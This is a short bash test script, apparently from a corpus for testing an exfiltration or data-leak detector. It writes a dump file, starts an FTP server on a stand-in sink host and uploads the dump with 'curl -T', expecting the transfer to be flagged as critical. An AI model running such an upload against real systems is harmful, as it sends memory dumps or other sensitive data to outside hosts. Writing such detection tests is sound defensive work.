#!/bin/bash
# B-ftp-put: curl -T core to an FTP server.
# flow: curl reads the dump and sends it on a second connection, to a port that the server names.
# tools: vsftpd curl
# expect: sent counted any-port critical
. "$CORPUS/lib.sh"
mkdump
mkdir -m 777 -p recv/in
vsftpd_up bg_there "$SINK" recv
curl -sS -T "$D" "ftp://$SINK:$PORT/in/a"
same recv/in/a
